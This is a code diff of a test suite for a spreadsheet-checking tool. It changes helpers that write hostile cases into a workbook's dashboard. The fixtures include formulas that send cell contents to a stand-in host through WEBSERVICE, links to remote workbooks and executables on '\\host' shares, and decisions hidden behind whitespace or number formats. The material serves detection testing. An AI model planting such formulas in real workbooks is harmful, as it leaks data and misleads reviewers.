@@ -7,7 +7,18 @@ import re
 from pocgate_xl.workbook.blank import plan_of
 from pocgate_xl.workbook.cell_values import position_of
 from pocgate_xl.workbook.plan import a1
-from tests.hostile.appearance import BANNER, BANNER_ROW, COST, DASHBOARD, DECIDED, RATING, ROW, TOTAL, altered
+from tests.hostile.appearance import (
+    BANNER,
+    BANNER_ROW,
+    COST,
+    DASHBOARD,
+    DECIDED,
+    HEADED,
+    RATING,
+    ROW,
+    TOTAL,
+    altered,
+)
 from tests.hostile.case import Case, Make
 from tests.hostile.differentials import merged
 from tests.hostile.edits import (
@@ -125,12 +136,12 @@ def in_runs(cell: str, look: str) -> Make:
     return in_cell("scorecard", cell, f'{{c}} t="inlineStr"><is>{runs}</is></c>')
 
 
-def beside(text: str, column: str = "N", row: int = 8) -> Make:
+def beside(text: str, column: str = "DA", row: int = 8) -> Make:
     """Write a text into a free cell of the dashboard."""
     return beside_cell(written(text), column, row)
 
 
-def beside_cell(content: str, column: str = "C", row: int = 7) -> Make:
+def beside_cell(content: str, column: str = "H", row: int = HEADED) -> Make:
     """Put contents into a free cell of the dashboard, in the order of its columns."""
 
     def change(xml: bytes) -> bytes:
@@ -183,14 +194,14 @@ EMPTY: tuple[Case, ...] = (
     altered("decision in the banner itself", "free texts", "PG136", within("dashboard", f"H{DECIDED[0]}", written("Go")), "Go"),
     altered("number in the banner", "free texts", "PG135", within("dashboard", f"H{DECIDED[0]}", "><v>30</v>"), "30"),
     altered("note in the blank cells of a table", "free texts", "PG135", within("costs", BAND, written("cheap")), "cheap"),
-    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "C", 7), "Go"),
-    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "C", 7), "Go"),
+    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "H", HEADED), "Go"),
+    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "H", HEADED), "Go"),
     altered("decision by a formula that nobody has computed", "free texts", "PG136",
             beside_cell('t="str"><f>"Decision: G"&amp;"o"</f>'), "Decision: Go"),
     altered("decision by a formula with another value", "free texts", "PG136",
             beside_cell('t="str"><f>"Decision: G"&amp;"o"</f><v>note</v>'), "Decision: Go"),
     altered("decision as the format of a number", "free texts", "PG136",
-            chain(beside_cell("><v>1</v>"), styled("dashboard", "C7", code='"Decision: Go"')), "Go"),
+            chain(beside_cell("><v>1</v>"), styled("dashboard", f"H{HEADED}", code='"Decision: Go"')), "Go"),
     altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), "D", 14)),
     altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", 2, 'width="2" customWidth="1"')),
     altered("rating repeated", "number format", "PG133",
@@ -281,23 +292,23 @@ RUNNING: tuple[Case, ...] = (
     Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
          condition("dashboard", "M70", SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
     Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
-         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "M", 8)),
+         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "DA", 8)),
     Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
-         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "M", 8)),
+         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "DA", 8)),
     Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
          drawn(over((40, 13), (44, 16), BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
     altered("cell of a workbook on a server", "names", "PG118",
-            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
     altered("cell of a workbook on the web", "names", "PG118",
-            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
     altered("cell of a file in another spelling", "names", "PG118",
-            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "M", 8)),
+            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "DA", 8)),
     altered("name of a cell on a server", "names", "PG118",
             swap(WORKBOOK, "<definedNames>", "<definedNames><definedName name=\"far\">'\\\\host\\s\\[b.xlsx]S'!$A$1</definedName>")),
     altered("link to a server by a formula", "hyperlinks", "PG120",
-            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "M", 8)),
+            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "DA", 8)),
     altered("link to a file by a formula", "hyperlinks", "PG120",
-            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "M", 8)),
+            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "DA", 8)),
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
     Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
